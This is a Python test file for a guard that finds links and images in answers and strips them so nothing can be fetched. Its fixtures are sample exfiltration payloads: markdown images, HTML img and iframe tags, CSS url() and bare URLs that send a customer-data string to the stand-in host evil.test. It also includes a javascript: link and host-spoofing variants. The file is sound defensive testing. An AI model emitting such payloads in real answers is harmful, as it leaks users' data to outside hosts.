# SPDX-License-Identifier: Apache-2.0
"""Links and images in answers."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bastide.guard.flow.exfiltration import hosts_in, inert, links, scan_links, settled

DATA = "order-1001-customer-address"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"![x](https://evil.test/p.png?d={DATA})", "markdown-image"),
        (f"![](<https://evil.test/{DATA}> 'title')", "markdown-image"),
        (f"[click](https://evil.test/?d={DATA})", "markdown-link"),
        (f"![x][r]\n\n[r]: https://evil.test/?d={DATA}", "reference"),
        (f'<img src="https://evil.test/?d={DATA}">', "html"),
        (f"<IMG SRC=https://evil.test/?d={DATA} width=1>", "html"),
        (f"<iframe src='//evil.test/?d={DATA}'></iframe>", "html"),
        (f'<div style="background:url(https://evil.test/?d={DATA})">', "css"),
        (f"<https://evil.test/?d={DATA}>", "autolink"),
        (f"see https://evil.test/?d={DATA}.", "bare-url"),
        (f"see www.evil.test/{DATA}", "bare-url"),
        ("[x](javascript:alert(1))", "markdown-link"),
        (f"![x](https:&#47;&#47;evil.test/?d={DATA})", "markdown-image"),
        (f"![x](https://{DATA}.evil.test/p.png)", "markdown-image"),
    ],
)
def test_what_leads_away_is_found_and_made_inert(text: str, kind: str) -> None:
    """The detection names the kind, and nothing in the text that is passed on can be fetched or clicked."""
    found, safe = scan_links(text)
    assert f"exfiltration/{kind}" in [d.detector for d in found]
    assert not list(links(safe))
    again, same = scan_links(safe)
    assert ((), safe) == (again, same)


@pytest.mark.parametrize(
    "text",
    ["no link at all", "[a](docs/page.md)", "[a](#part)", "a[0](x)", "1 < 2 and 3 > 2", "e.g. this.that", "C:\\www"],
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert ((), text) == scan_links(text)


def test_trusted_addresses_pass() -> None:
    """An address that trusted text has, or one of an allowed host; an image there must not carry data."""
    text = "![a](https://cdn.corp.org/logo.png) [b](https://docs.corp.org/x?version=12345678)"
    assert scan_links(text, hosts=["corp.org"])[0] == ()
    assert scan_links(text, trusted=lambda url: "corp.org" in url)[0] == ()
    [only] = scan_links(f"![a](https://cdn.corp.org/l.png?d={DATA})", hosts=["corp.org"])[0]
    assert only.detector == "exfiltration/markdown-image"
    assert scan_links("![a](https://evilcorp.org/l.png)", hosts=["corp.org"])[0]
    assert scan_links("![a](https://corp.org.evil.test/l.png)", hosts=["corp.org"])[0]
    assert scan_links("![a](https://corp.org@evil.test/l.png)", hosts=["corp.org"])[0]
    assert scan_links("![a](https:\\\\evil.test\\l.png)", hosts=["corp.org"])[0]


def test_the_rest_of_the_text_stays() -> None:
    found, safe = scan_links("Before [the page](https://evil.test/x), after. ![pic](https://evil.test/y) End.")
    assert safe == "Before the page [link removed], after. [image removed: pic] End."
    assert [d.spans[0].start for d in found] == [7, 47]


@given(st.text(max_size=300))
def test_any_text_is_read(text: str) -> None:
    """And what comes out has no link left, however it is put together."""
    _, safe = scan_links(text)
    assert not [x for x in links(safe) if x.kind == "markdown-image"]
    assert 0 <= settled(text) <= len(text)


@given(
    st.lists(
        st.sampled_from(
            ["![", "](", "https://evil.test/", ")", "<img src=", ">", "[r]: ", " ", "\n", "www.", "url(", '"', "a"]
        ),
        max_size=12,
    ).map("".join)
)
def test_nothing_that_loads_survives(text: str) -> None:
    _, safe = scan_links(text)
    assert not [x for x in links(safe) if x.loads and "evil.test" in x.url]


@pytest.mark.parametrize(
    "begun",
    ["![x](https://evil.te", "![x", "[x]", "see https://evil.", "<img src='https:", "see htt", "text !", "url(http"],
)
def test_a_stream_waits_for_the_end_of_a_link(begun: str) -> None:
    """What may still become a link isn't settled; what stands before it is."""
    assert settled(f"Some words. {begun}") <= len("Some words. text ")
    assert settled(f"Some words. {begun}") >= len("Some words. ") - 1


def test_hosts_are_found() -> None:
    assert {"www.a.test", "b.test"} == hosts_in(["see www.a.test/x and [b](https://b.test)"])
    assert inert("https://a.test/x?d=1") == "https[:]//a[.]test/x"


def test_hostile_text_takes_linear_time() -> None:
    start = time.perf_counter()
    for piece in ("![", "[a](", "<a ", "<img src=", "http://", "[a]:", "url(", "(", "<img src=x ", "http://a "):
        scan_links(piece * 30_000)
        settled(piece * 30_000)
    assert time.perf_counter() - start < 10
